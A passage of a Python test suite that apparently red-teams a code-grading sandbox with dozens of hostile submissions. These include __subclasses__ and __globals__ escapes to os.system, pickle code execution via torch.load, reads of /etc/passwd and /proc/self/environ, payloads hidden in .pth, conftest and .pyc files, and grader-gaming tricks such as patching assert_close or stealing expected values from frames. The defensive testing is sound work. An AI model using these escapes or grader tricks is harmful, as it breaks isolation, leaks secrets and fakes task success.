    add(
        "match-class-pattern-globals",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd('match sgd:\n    case object(__globals__={"__builtins__": b}):\n        ' + _B2C + "\n"),
    )

    # why: len.__self__ is the builtins module, read by a nested class pattern.
    add(
        "match-builtin-self-open",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd('match len:\n    case object(__self__=object(open=op)):\n        op(@PATH@, "w").close()\n'),
    )

    # why: __match_args__ names the attribute as a computed string; __instancecheck__ makes any object match.
    add(
        "match-args-computed-dunder",
        "optimizers.sgd",
        prelude=(
            "class _Meta(type):\n    def __instancecheck__(cls, obj):\n        return True\n"
            'class _Any(metaclass=_Meta):\n    __match_args__ = ("__glo" + "bals__",)\n'
        ),
        source=sgd('match sgd:\n    case _Any(g):\n        b = g["__builtins__"]\n        ' + _B2C + "\n"),
    )

    # why: a mapping pattern on vars(module): the forbidden name is only a string key.
    add(
        "match-mapping-on-module-vars",
        "attention.scaled_dot_product_attention",
        source=sdpa('match vars(torch.nn.functional):\n    case {"scaled_dot_product_attention": fn}:\n        pass\n'),
    )

    # why: autograd through __match_args__ = ("back" + "ward",): a call with no attribute node.
    add(
        "match-args-backward",
        "rnn.rnn_bptt",
        prelude=(
            "class _Meta(type):\n    def __instancecheck__(cls, obj):\n        return True\n"
            'class _Any(metaclass=_Meta):\n    __match_args__ = ("back" + "ward",)\n'
            "def _bw(loss, ps):\n    match loss:\n        case _Any(f):\n            f()\n    return [p.grad for p in ps]\n"
        ),
        source=bptt("_bw(loss, ps)"),
    )

    # why: the classic subclasses walk written as patterns.
    add(
        "match-subclasses-chain",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd(
            "match ():\n    case object(__class__=object(__base__=object(__subclasses__=subs))):\n"
            "        for c in subs():\n            match c:\n"
            '                case object(__name__="_wrap_close", __init__=object(__globals__={"system": s})):\n'
            "                    s(@CMD@)\n"
        ),
    )

    # why: a running generator's frame read by a pattern: gi_frame.f_back reaches the caller's frames.
    add(
        "match-generator-frame",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude=_REAL_B,
        source=sgd(
            "def _g():\n    yield _me[0]\n_me = [None]\n_me[0] = gen = _g()\nnext(gen)\n"
            "match gen:\n    case object(gi_frame=fr):\n        b = _real_builtins(fr)\n        " + _B2C + "\n"
        ),
    )

    # why: __dict__ read by a class pattern with a mapping sub-pattern.
    add(
        "match-dict-subpattern",
        "attention.scaled_dot_product_attention",
        refused=True,
        expect="refused",
        source=sdpa(
            'match torch.nn.functional:\n    case object(__dict__={"scaled_dot_product_attention": fn}):\n        pass\n'
        ),
    )

    # =========================================================================================
    fam("5-frames")
    # why: a running generator yields its own gi_frame; f_back climbs into the grader's frames.
    add(
        "frame-generator-fback-globals",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude=_REAL_B,
        source=sgd(
            "def _g():\n    yield _me[0].gi_frame.f_back\n_me = [None]\n_me[0] = _g()\nb = _real_builtins(next(_me[0]))\n"
            + _B2C
            + "\n"
        ),
    )

    # why: a coroutine driven by hand: cr_frame.f_back is the caller while it runs.
    add(
        "frame-coroutine-cr-frame",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude=_REAL_B,
        source=sgd(
            "async def _c():\n    return _me[0].cr_frame.f_back\n_me = [None]\n_me[0] = _c()\n"
            "try:\n    _me[0].send(None)\nexcept StopIteration as stop:\n    b = _real_builtins(stop.value)\n    "
            + _B2C
            + "\n"
        ),
    )

    # why: an async generator's ag_frame and its code object's constants.
    add(
        "frame-async-generator-ag-frame",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude=_REAL_B,
        source=sgd(
            "async def _ag():\n    yield _me[0].ag_frame.f_back\n_me = [None]\n_me[0] = _ag()\n"
            "try:\n    _me[0].asend(None).send(None)\nexcept StopIteration as stop:\n    b = _real_builtins(stop.value)\n    "
            + _B2C
            + "\n"
        ),
    )

    # why: a caught exception's __traceback__.tb_frame.f_back is the grader's frame.
    add(
        "frame-exception-traceback",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude=_REAL_B,
        source=sgd(
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    b = _real_builtins(e.__traceback__.tb_frame)\n    "
            + _B2C
            + "\n"
        ),
    )

    # why: sys.exc_info()[2] gives the traceback without naming __traceback__ (sys is allowed for stderr).
    add(
        "frame-sys-exc-info",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import sys\n" + _REAL_B,
        source=sgd(
            "try:\n    1 / 0\nexcept ZeroDivisionError:\n    b = _real_builtins(sys.exc_info()[2].tb_frame)\n    "
            + _B2C
            + "\n"
        ),
    )

    # why: the grader's f_locals hold the expected result next to the arguments: return it.
    add(
        "frame-grader-locals-expected",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=(
            "def sgd(w, dw, state, lr=1e-2):\n"
            "    try:\n        1 / 0\n    except ZeroDivisionError as e:\n        fr = e.__traceback__.tb_frame.f_back\n"
            "    while fr is not None:\n"
            "        for key, value in list(fr.f_locals.items()):\n"
            '            if isinstance(value, torch.Tensor) and value is not w and value.shape == w.shape and key in ("expected", "want", "ref", "reference", "target"):\n'
            "                return value.clone(), {}\n"
            "        fr = fr.f_back\n"
            "    return w * 0, {}\n"
        ),
    )

    # why: co_consts / co_filename / f_lineno of every frame up the stack: the grader's secrets as text.
    add(
        "frame-code-consts-leak",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd(
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    fr = e.__traceback__.tb_frame\n"
            "seen = []\nwhile fr is not None:\n    seen.append((fr.f_code.co_filename, fr.f_lineno, fr.f_code.co_consts))\n    fr = fr.f_back\n"
            'raise RuntimeError("SEQLAB-LEAK " + repr(seen))\n'
        ),
    )

    # why: __code__ replaced on the student's own function (the "_ names allowed on own objects" rule):
    # co_names "xx_globals" -> "__globals__" and the guard "_getattr_" -> plain "getattr".
    add(
        "frame-own-function-code-replace",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd(
            "def _probe(o):\n    return o.xx_globals\n"
            "co = _probe.__code__\n"
            'ren = {"xx_globals": "__globals__", "_getattr_": "getattr"}\n'
            "_probe.__code__ = co.replace(co_names=tuple(ren.get(n, n) for n in co.co_names),\n"
            "                             co_consts=tuple(ren.get(c, c) if isinstance(c, str) else c for c in co.co_consts))\n"
            'b = _probe(sgd)["__builtins__"]\n' + _B2C + "\n"
        ),
    )

    # why: gc.get_referrers(w) finds the grader's containers holding the argument (and the expected value).
    add(
        "frame-gc-get-referrers",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="import gc\n",
        source=(
            "def sgd(w, dw, state, lr=1e-2):\n"
            "    for ref in gc.get_referrers(w):\n"
            "        values = ref.values() if isinstance(ref, dict) else ref if isinstance(ref, (list, tuple)) else ()\n"
            "        for value in values:\n"
            "            if isinstance(value, torch.Tensor) and value is not w and value is not dw and value.shape == w.shape:\n"
            "                return value.clone(), {}\n"
            "    return w * 0, {}\n"
        ),
    )

    _more(add, fam, C, cmd_of, so_bytes)
    return out


def _more(add, fam, C, cmd_of, so_bytes):
    # =========================================================================================
    fam("6-dunder")
    # why: the classic: ().__class__.__base__.__subclasses__() -> os._wrap_close -> its globals -> system.
    add(
        "dunder-subclasses-wrap-close",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        for c in ().__class__.__base__.__subclasses__():
            if c.__name__ == "_wrap_close":
                c.__init__.__globals__["system"](@CMD@)
    """),
    )

    # why: a library function's __globals__ holds the real builtins.
    add(
        "dunder-library-init-globals",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        b = torch.nn.Module.__init__.__globals__["__builtins__"]
        @B2C@
    """),
    )

    # why: the student's OWN function: "_ names allowed on the student's own objects" must not cover __globals__.
    add(
        "dunder-own-function-globals",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        b = sgd.__globals__["__builtins__"]
        @B2C@
    """),
    )

    # why: the student's OWN class: __mro__ reaches object, object.__subclasses__() reaches everything.
    add(
        "dunder-own-class-mro-subclasses",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        class _Mine:
            pass
        for c in _Mine.__mro__[-1].__subclasses__():
            if c.__name__ == "_wrap_close":
                c.__init__.__globals__["system"](@CMD@)
    """),
    )

    # why: the module global __builtins__ read by name.
    add(
        "dunder-builtins-name",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        b = __builtins__
        @B2C@
    """),
    )

    # why: the module global __loader__ reads any file: the reference solutions, the environment.
    add(
        "dunder-loader-get-data",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        here = __file__.rsplit("/", 2)[0]
        found = []
        for path in (here + "/solutions/optimizers.py", here + "/../solutions/optimizers.py",
                     here + "/../../solutions/optimizers.py", "/proc/self/environ"):
            try:
                found.append(__loader__.get_data(path)[:2000])
            except Exception:
                pass
        raise RuntimeError("SEQLAB-LEAK " + repr(found))
    """),
    )

    # why: the loader's class executes a file that is not .py (never vetted) as unrestricted Python.
    add(
        "dunder-loader-executes-unvetted-txt",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/payload.txt": "import os\nos.system(@CMD@)\n"},
        source=sgd("""
        type(__loader__)("payload", __file__.rsplit("/", 1)[0] + "/payload.txt").load_module()
    """),
    )

    # why: __spec__.loader and __spec__.origin (a second way to the loader).
    add(
        "dunder-spec-loader",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/payload2.txt": "import os\nos.system(@CMD@)\n"},
        source=sgd("""
        spec = __spec__
        type(spec.loader)("payload2", spec.origin.rsplit("/", 1)[0] + "/payload2.txt").load_module()
    """),
    )

    # why: __import__ called by name.
    add(
        "dunder-import-call",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        __import__("os").system(@CMD@)
    """),
    )

    # why: __reduce_ex__ of a list returns copyreg.__newobj__, whose globals hold the real builtins.
    add(
        "dunder-reduce-ex-globals",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        b = [].__reduce_ex__(2)[0].__globals__["__builtins__"]
        @B2C@
    """),
    )

    # why: a builtin's __self__ is the builtins module.
    add(
        "dunder-builtin-self-is-builtins",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        len.__self__.open(@PATH@, "w").close()
    """),
    )

    # why: a classmethod's __func__ is a plain function with torch._tensor's globals.
    add(
        "dunder-classmethod-func-globals",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        b = torch.Tensor.__torch_function__.__func__.__globals__["__builtins__"]
        @B2C@
    """),
    )

    # why: functools.wraps leaves __wrapped__; a closure cell holds the original function.
    add(
        "dunder-wrapped-and-closure-cells",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        f = torch.Tensor.__rsub__.__wrapped__
        g = torch.Tensor.__rsub__.__closure__[0].cell_contents
        b = (f or g).__globals__["__builtins__"]
        @B2C@
    """),
    )

    # why: __kwdefaults__/__defaults__ of library functions mutated at import (tolerances to infinity).
    add(
        "dunder-kwdefaults-of-assert-close",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="""
        torch.testing.assert_close.__kwdefaults__.update(rtol=float("inf"), atol=float("inf"), equal_nan=True)
        torch.nn.functional.softmax.__defaults__ = (None, 3, None)
    """,
        source=sgd("pass\n"),
    )

    # why: a library module's __dict__ written through (no setattr guard on item writes into it).
    add(
        "dunder-module-dict-write",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="""
        torch.__dict__["allclose"] = lambda *a, **k: True
        torch.__dict__["equal"] = lambda *a, **k: True
    """,
        source=sgd("pass\n"),
    )

    # why: vars(torch) is the same dict as torch.__dict__, reached without any dunder in the source.
    add(
        "dunder-vars-module-dict-write",
        "optimizers.sgd",
        prelude="""
        vars(torch)["allclose"] = lambda *a, **k: True
        vars(torch.testing)["assert_close"] = lambda *a, **k: None
    """,
        source=sgd("pass\n"),
    )

    # why: __class__ assignment turns the returned tensor into a subclass with lying comparisons.
    add(
        "dunder-class-assignment-liar",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        prelude="""
        class _Liar(torch.Tensor):
            def __eq__(self, other):
                return True
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq", "assert_close"):
                    return True
                return super().__torch_function__(func, types, args, kwargs or {})
    """,
        source="""
        def sgd(w, dw, state, lr=1e-2):
            out = w * 0
            out.__class__ = _Liar
            return out, {}
    """,
    )

    # why: PEP 562 module __getattr__ answers for a function the module does not define (static sees no def).
    add(
        "dunder-module-getattr-answers-missing-function",
        "attention.scaled_dot_product_attention",
        prelude=f"""
        def __getattr__(name):
            if name == "scaled_dot_product_attention":
                f = getattr(torch.nn.functional, {SDPA_NAME})
                def sdpa(q, k, v, mask=None):
                    s = (q @ k.transpose(-2, -1)) / math.sqrt(q.shape[-1])
                    if mask is not None:
                        s = s.masked_fill(~mask, float("-inf"))
                    return torch.nan_to_num(f(q, k, v, attn_mask=mask)), torch.nan_to_num(torch.softmax(s, -1))
                return sdpa
            raise AttributeError(name)
    """,
        source="def _no_scaled_dot_product_attention_here():\n    pass\n",
    )

    # why: a metaclass whose __getattr__/__call__ run implicitly; the body reaches getattr-by-string.
    add(
        "dunder-metaclass-implicit-call",
        "attention.scaled_dot_product_attention",
        prelude=f"""
        class _Meta(type):
            def __call__(cls, q, k, v, mask=None):
                fn = getattr(torch.nn.functional, {SDPA_NAME})
                s = (q @ k.transpose(-2, -1)) / math.sqrt(q.shape[-1])
                if mask is not None:
                    s = s.masked_fill(~mask, float("-inf"))
                return torch.nan_to_num(fn(q, k, v, attn_mask=mask)), torch.nan_to_num(torch.softmax(s, -1))
    """,
        source='''
        class scaled_dot_product_attention(metaclass=_Meta):
            """A class, not a def: the grader calls it like a function."""
    ''',
    )

    # why: __init_subclass__ / __set_name__ / __class_getitem__ run at class creation with no call in sight.
    add(
        "dunder-init-subclass-set-name-hooks",
        "attention.scaled_dot_product_attention",
        prelude=f"""
        _HIT = {{}}
        class _Hook:
            def __set_name__(self, owner, name):
                _HIT["fn"] = getattr(torch.nn.functional, {SDPA_NAME})
        class _Base:
            def __init_subclass__(cls, **kw):
                _HIT["fn2"] = getattr(torch.nn.functional, {SDPA_NAME})
            def __class_getitem__(cls, item):
                return getattr(torch.nn.functional, item)
        class _Sub(_Base):
            x = _Hook()
    """,
        source=sdpa(f'fn = _HIT.get("fn") or _Base[{SDPA_NAME}]\n'),
    )

    # why: a descriptor on the student's class: attribute reads run __get__ with the real owner.
    add(
        "dunder-descriptor-get",
        "attention.scaled_dot_product_attention",
        prelude=f"""
        class _Desc:
            def __get__(self, obj, owner=None):
                return getattr(torch.nn.functional, {SDPA_NAME})
        class _Holder:
            fn = _Desc()
    """,
        source=sdpa("fn = _Holder().fn\n"),
    )

    # why: a returned object whose __class__ is a property answering torch.Tensor (isinstance is fooled)
    # and whose __torch_function__ makes torch.allclose/equal/isclose answer True.
    add(
        "dunder-duck-tensor-class-property",
        "optimizers.sgd",
        prelude="""
        class _Duck:
            __class__ = property(lambda self: torch.Tensor)
            shape = property(lambda self: self._shape)
            dtype = property(lambda self: self._dtype)
            def __init__(self, like):
                self._shape, self._dtype, self.device = like.shape, like.dtype, like.device
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return True
            def __eq__(self, other):
                return True
            def __sub__(self, other):
                return torch.zeros(self._shape, dtype=self._dtype)
            __rsub__ = __sub__
    """,
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return _Duck(w), {}
    """,
    )

    # =========================================================================================
    fam("7-siblings")
    # why: a helper module re-exports the forbidden op; the static verdict of attention must follow imports.
    add(
        "sibling-helper-reexports-forbidden-op",
        "attention.scaled_dot_product_attention",
        files={"exercises/helpers.py": "from torch.nn.functional import scaled_dot_product_attention as fast\n"},
        prelude="from .helpers import fast as _fast\n",
        source=sdpa("fn = _fast\n"),
    )

    # why: a helper module runs os.system at import: every module of the submission must be vetted.
    add(
        "sibling-helper-import-time-os-system",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/helpers.py": "import os\nos.system(@CMD@)\n"},
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: two hops through an underscore-named helper module and a dict of functions.
    add(
        "sibling-underscore-module-two-hops",
        "attention.scaled_dot_product_attention",
        files={
            "exercises/_impl.py": "import torch.nn.functional as _F\nTABLE = {'k': _F.scaled_dot_product_attention}\n",
            "exercises/helpers.py": "from ._impl import TABLE\ndef pick():\n    return TABLE['k']\n",
        },
        prelude="from .helpers import pick as _pick\n",
        source=sdpa("fn = _pick()\n"),
    )

    # why: exercises/__init__.py is code too (the release says "nothing to fill in", the student may still).
    add(
        "sibling-package-init-code",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/__init__.py": "import os\nos.system(@CMD@)\n"},
        source=sgd("pass\n"),
    )

    # why: a sub-package whose __init__ holds the forbidden op.
    add(
        "sibling-subpackage-init",
        "attention.scaled_dot_product_attention",
        files={"exercises/sub/__init__.py": "import torch.nn.functional as F\nfast = F.scaled_dot_product_attention\n"},
        prelude="from .sub import fast as _fast\n",
        source=sdpa("fn = _fast\n"),
    )

    # why: pytest plugins and configuration files anywhere a grader might run pytest from.
    plugin = "import os\nos.makedirs(@DIR@, exist_ok=True)\nopen(@PATH@, 'w').close()\ndef pytest_configure(config):\n    pass\n"
    add(
        "sibling-conftest-and-pytest-ini",
        "optimizers.sgd",
        files={
            "conftest.py": plugin,
            "exercises/conftest.py": plugin,
            "exercises/tests/conftest.py": plugin,
            "exercises/plugin.py": plugin,
            "pytest.ini": "[pytest]\naddopts = -p exercises.plugin\n",
            "setup.cfg": "[tool:pytest]\naddopts = -p exercises.plugin\n",
            "tox.ini": "[pytest]\naddopts = -p exercises.plugin\n",
            "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p exercises.plugin"\n',
        },
        source=sgd("pass\n"),
    )

    # why: site hooks: sitecustomize/usercustomize and .pth files in every folder a path may include.
    hook = "import os\nos.makedirs(@DIR@, exist_ok=True)\nopen(@PATH@, 'w').close()\n"
    add(
        "sibling-site-hooks-and-pth",
        "optimizers.sgd",
        files={
            "sitecustomize.py": hook,
            "usercustomize.py": hook,
            "exercises/sitecustomize.py": hook,
            "exercises/usercustomize.py": hook,
            "evil.pth": "import os; os.makedirs(@DIR@, exist_ok=True); open(@PATH@, 'w').close()\n",
            "exercises/evil.pth": "import os; os.makedirs(@DIR@, exist_ok=True); open(@PATH@, 'w').close()\n",
        },
        source=sgd("pass\n"),
    )

    # why: shadow the modules a grader (child or PARENT) imports late: json, pickle, numpy, torch, logging...
    shadow = "import os\nos.makedirs(@DIR@, exist_ok=True)\nopen(@PATH@, 'w').close()\n"
    add(
        "sibling-shadow-stdlib-and-torch",
        "optimizers.sgd",
        files={
            **{
                f"{d}{m}.py": shadow
                for d in ("", "exercises/")
                for m in (
                    "json",
                    "pickle",
                    "copyreg",
                    "numpy",
                    "logging",
                    "typing",
                    "math",
                    "operator",
                    "inspect",
                    "difflib",
                    "pprint",
                    "textwrap",
                )
            },
            "torch/__init__.py": shadow,
            "exercises/torch/__init__.py": shadow,
            "seqlab/__init__.py": shadow,
        },
        source=sgd("pass\n"),
    )

    # why: a real extension module named like the module: the extension loader runs before the source loader.
    add(
        "sibling-so-shadows-module",
        "optimizers.sgd",
        expect="zero",
        files={
            "exercises/optimizers.cpython-311-x86_64-linux-gnu.so": so_bytes,
            "exercises/optimizers.abi3.so": so_bytes,
            "exercises/optimizers.so": so_bytes,
        },
        source=sgd("pass\n"),
    )

    # why: a helper that exists only as an extension module (never Python source to vet).
    add(
        "sibling-so-helper-import",
        "optimizers.sgd",
        files={"exercises/fastops.abi3.so": so_bytes},
        prelude="try:\n    from . import fastops\nexcept Exception:\n    pass\n",
        source=sgd("pass\n"),
    )

    # why: a sourceless .pyc helper: importable with no .py at all.
    add(
        "sibling-sourceless-pyc-helper",
        "optimizers.sgd",
        files={
            "exercises/helpers.pyc": _pyc(
                f"import os\nos.system({cmd_of('sibling-sourceless-pyc-helper')!r})\n", unchecked_hash=False
            )
        },
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: an UNCHECKED hash-based pyc in __pycache__: CPython uses it without looking at the .py at all.
    add(
        "sibling-pycache-unchecked-hash-pyc",
        "optimizers.sgd",
        files={
            "exercises/__pycache__/optimizers.cpython-311.pyc": _pyc(
                f"import os\nos.system({cmd_of('sibling-pycache-unchecked-hash-pyc')!r})\n"
                "def sgd(w, dw, state, lr=1e-2):\n    return w - lr * dw, {}\n",
                unchecked_hash=True,
            )
        },
        source=sgd("pass\n"),
    )

    # why: a package directory exercises/optimizers/ wins over exercises/optimizers.py in the import system.
    add(
        "sibling-package-dir-shadows-module",
        "optimizers.sgd",
        files={
            "exercises/optimizers/__init__.py": "import os\nos.system(@CMD@)\nimport torch\ndef sgd(w, dw, state, lr=1e-2):\n    return torch.optim.SGD, {}\n"
        },
        source=sgd("pass\n"),
    )

    # why: a file under a name a checker may skip (.pyw/.pyi/no suffix) imported through a loader.
    add(
        "sibling-pyi-and-odd-suffix",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/helpers.pyi": "import os\nos.system(@CMD@)\n"},
        prelude="import importlib.machinery as _m\n",
        source=sgd('_m.SourceFileLoader("h", __file__.rsplit("/", 1)[0] + "/helpers.pyi").load_module()\n'),
    )

    # =========================================================================================
    fam("8-filesystem")
    # why: a symlinked helper module that IS the reference solution.
    add(
        "fs-symlink-to-reference-module",
        "attention.scaled_dot_product_attention",
        links={"exercises/refmod.py": "solutions/attention.py"},
        prelude="from .refmod import scaled_dot_product_attention as _ref\n",
        source="def scaled_dot_product_attention(q, k, v, mask=None):\n    return _ref(q, k, v, mask)\n",
    )

    # why: the same, with a relative link (what a student's git checkout beside the course would hold).
    add(
        "fs-relative-symlink-to-reference",
        "rnn.rnn_bptt",
        relative_links=True,
        links={"exercises/refmod.py": "solutions/rnn.py"},
        prelude="from .refmod import rnn_bptt as _ref\n",
        source="def rnn_bptt(x, targets, h0, params):\n    return _ref(x, targets, h0, params)\n",
    )

    # why: a symlinked directory: the whole solutions folder as a namespace package.
    add(
        "fs-symlink-solutions-dir",
        "optimizers.adam",
        links={"exercises/sol": "solutions"},
        prelude="from .sol.optimizers import adam as _ref\n",
        source="def adam(w, dw, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):\n    return _ref(w, dw, state, lr, betas, eps)\n",
    )

    # why: the course root itself linked in: graders and solutions importable from the submission.
    add(
        "fs-symlink-course-root",
        "optimizers.sgd",
        links={"exercises/course": "."},
        prelude="try:\n    from .course.solutions.optimizers import sgd as _ref\nexcept Exception:\n    _ref = None\n",
        source="def sgd(w, dw, state, lr=1e-2):\n    return _ref(w, dw, state, lr) if _ref else (w * 0, {})\n",
    )

    # why: a grader test module linked in and imported: its names and constants leak.
    add(
        "fs-symlink-grader-module",
        "optimizers.sgd",
        links={"exercises/grmod.py": "graders/test_optimizers.py"},
        source=sgd('from . import grmod\nraise RuntimeError("SEQLAB-LEAK " + repr(sorted(vars(grmod))))\n'),
    )

    # why: a helper that is /dev/zero: whoever reads the source to vet it reads forever.
    add(
        "fs-symlink-dev-zero",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        links={"exercises/helpers.py": "/dev/zero"},
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: a helper that is the reader's own stdin (/dev/stdin, a FIFO-like blocking read in the parent).
    add(
        "fs-symlink-dev-stdin",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        links={"exercises/helpers.py": "/dev/stdin"},
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: a helper that is /proc/self/environ: the vetting error message may echo the parent's environment.
    add(
        "fs-symlink-proc-environ",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        links={"exercises/helpers.py": "/proc/self/environ"},
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: 24 MB of source with the forbidden line at the very end (a checker that truncates fails open).
    add(
        "fs-huge-file-evil-tail",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        # bytes: passed through as they are (textwrap.dedent over 24 MB cost every worker 0.6 s)
        files={
            "exercises/helpers.py": (
                "x = 0\n" * 4_000_000 + f"import os\nos.system({cmd_of('fs-huge-file-evil-tail')!r})\n"
            ).encode()
        },
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: one 8 MB line (line-length limits, regexes that backtrack).
    add(
        "fs-megabyte-single-line",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={
            "exercises/helpers.py": (
                "s = '" + "a" * 8_000_000 + f"'; import os; os.system({cmd_of('fs-megabyte-single-line')!r})\n"
            ).encode()
        },
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: 900-deep nesting: CPython compiles it, a recursive Python AST visitor overflows (must fail closed).
    add(
        "fs-deep-expression-crashes-visitor",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/helpers.py": "x = 1" + "+1" * 900 + "\nimport os\nos.system(@CMD@)\n"},
        prelude="from . import helpers\n",
        source=sgd("pass\n"),
    )

    # why: thousands of files (copy, vetting and upload limits); none is imported.
    add(
        "fs-thousands-of-files",
        "optimizers.sgd",
        files={**{f"exercises/pad/m{i:05d}.py": "import os\n" for i in range(5000)}, "exercises/pad/__init__.py": ""},
        source=sgd("pass\n"),
    )

    # why: a dangling link and a link to a directory loop (the copy step must not follow or hang).
    add(
        "fs-dangling-and-looping-links",
        "optimizers.sgd",
        links={"exercises/dangling.py": "no/such/file.py", "exercises/loop": "exercises"},
        source=sgd("pass\n"),
    )

    # =========================================================================================
    fam("9-torch-numpy-internals")
    # why: torch.load runs pickle: a legacy-format "checkpoint" runs os.system.
    add(
        "torch-load-pickle-rce",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        files={"exercises/weights.pt": _pickle_system(cmd_of("torch-load-pickle-rce"))},
        source=sgd("""
        torch.load(__file__.rsplit("/", 1)[0] + "/weights.pt", weights_only=False)
    """),
    )

    # why: torch.serialization.load is torch.load under another public path (an attribute allow-list by name misses it).
    add(
        "torch-serialization-load-alias",
        "optimizers.sgd",
        prelude="import io\n",
        source=sgd("""
        torch.serialization.load(io.BytesIO(b"cposix\\nsystem\\n(V" + @CMDB@ + b"\\ntR."), weights_only=False)
    """),
    )

    # why: torch.from_file reads any file into a tensor.
    add(
        "torch-from-file-environ",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        t = torch.from_file("/etc/passwd", shared=False, size=16, dtype=torch.uint8)
        raise RuntimeError("SEQLAB-LEAK " + bytes(t.tolist()).decode("latin-1"))
    """),
    )

    # why: torch.UntypedStorage.from_file (a second spelling).
    add(
        "torch-untyped-storage-from-file",
        "optimizers.sgd",
        refused=True,
        expect="refused",
        source=sgd("""
        s = torch.UntypedStorage.from_file("/etc/hostname", False, 1)
        raise RuntimeError("SEQLAB-LEAK " + bytes(s.tolist()).decode("latin-1"))
    """),
    )

    # why: the math kernel of SDPA through torch.ops.aten.
    add(
        "torch-ops-aten-sdpa-math",
        "attention.scaled_dot_product_attention",
        refused=True,
        expect="refused",
        source="""
        def scaled_dot_product_attention(q, k, v, mask=None):
            return tuple(torch.ops.aten._scaled_dot_product_attention_math(q, k, v, attn_mask=mask)[:2])
    """,
    )

    # why: torch.library.custom_op wraps the forbidden kernel under a new op name (recorders see "seq::f").
    add(
        "torch-library-custom-op-wrapper",
        "attention.scaled_dot_product_attention",
        refused=True,
        expect="refused",
        prelude=f"""
        @torch.library.custom_op("seqlab_attack::f", mutates_args=())
        def _wrapped(q: torch.Tensor, k: torch.Tensor, v: torch.Tensor) -> torch.Tensor:
            return getattr(torch.nn.functional, {SDPA_NAME})(q, k, v)
    """,
        source=sdpa(
            "fn = lambda q, k, v, attn_mask=None: _wrapped(q, k, v) if attn_mask is None else getattr(torch.nn.functional, "
            + SDPA_NAME
            + ")(q, k, v, attn_mask=attn_mask)\n"
        ),
    )

    # why: torch.jit.script runs the loop in C++: the TorchFunctionMode op counter sees one call.
    add(
        "torch-jit-script-hides-loop",
        "selective_scan.linear_scan",
        refused=True,
        expect="refused",
        prelude="""
        @torch.jit.script
        def _loop(a: torch.Tensor, b: torch.Tensor, h: torch.Tensor) -> torch.Tensor:
            out = []
            for t in range(a.shape[1]):
                h = a[:, t] * h + b[:, t]
                out.append(h)
            return torch.stack(out, dim=1)
    """,
        source="""
        def linear_scan(a, b, h0=None):
            return _loop(a, b, torch.zeros_like(b[:, 0]) if h0 is None else h0)
    """,
    )

    # why: torch.jit.CompilationUnit compiles TorchScript from a STRING (no AST for the subset to see).
    add(
        "torch-jit-compilation-unit-string",
        "selective_scan.linear_scan",
        refused=True,
        expect="refused",
        prelude="""
        _cu = torch.jit.CompilationUnit("def f(a, b, h):\\n    out = []\\n    for t in range(a.shape[1]):\\n        h = a[:, t] * h + b[:, t]\\n        out.append(h)\\n    return torch.stack(out, dim=1)\\n")
    """,
        source="""
        def linear_scan(a, b, h0=None):
            return _cu.f(a, b, torch.zeros_like(b[:, 0]) if h0 is None else h0)
    """,
    )

    # why: torch.compile: the compiled graph runs outside the Python-level recorders.
    add(
        "torch-compile-hides-loop",
        "selective_scan.linear_scan",
        refused=True,
        expect="refused",
        source="""
        def linear_scan(a, b, h0=None):
            def loop(a, b, h):
                out = []
                for t in range(a.shape[1]):
                    h = a[:, t] * h + b[:, t]
